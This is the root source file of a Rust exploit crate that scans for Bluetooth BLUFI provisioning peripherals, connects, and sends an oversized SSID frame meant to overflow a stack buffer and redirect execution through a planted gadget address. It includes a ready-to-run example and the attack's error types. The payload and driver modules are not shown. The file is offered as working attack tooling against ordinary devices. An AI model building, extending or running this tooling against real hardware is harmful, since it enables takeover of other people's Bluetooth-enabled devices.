//! BLUFI SSID overflow exploit library
//!
//! Scans for a BLUFI-capable peripheral, connects, and drives the scripted
//! attack: a legitimate opmode command followed by an SSID frame sized to
//! overrun the handler's stack buffer and redirect execution through a
//! planted gadget address.
//!
//! # Example
//!
//! ```ignore
//! use blufi_exploit::{AttackConfig, AttackDriver};
//!
//! #[tokio::main]
//! async fn main() -> Result<(), blufi_exploit::AttackError> {
//!     let mut driver = AttackDriver::new(AttackConfig::default());
//!     driver.run().await
//! }
//! ```

pub mod driver;
pub mod payload;
pub mod scan;

pub use driver::{AttackConfig, AttackDriver, DriverState};
pub use payload::{LayoutError, OverflowLayout};
pub use scan::DiscoveredDevice;

use std::time::Duration;

/// Errors that end an attack run.
///
/// All of these are terminal: the run performs best-effort cleanup and
/// stops. A failed notify subscription is deliberately not represented
/// here - it is logged and the attack proceeds without responses.
#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error("no Bluetooth adapter found")]
    NoAdapter,

    #[error("no BLUFI target found during scan window")]
    NoTargetFound,

    #[error("connect to target timed out after {0:?}")]
    ConnectTimeout(Duration),

    #[error("connect failed: {0}")]
    Connect(#[source] btleplug::Error),

    #[error("target exposes no writable characteristic")]
    NoWriteChannel,

    #[error("packet write failed: {0}")]
    Write(#[source] btleplug::Error),

    #[error(transparent)]
    Frame(#[from] blufi_proto::FrameError),

    #[error(transparent)]
    Layout(#[from] LayoutError),

    #[error("transport error: {0}")]
    Transport(#[from] btleplug::Error),
}
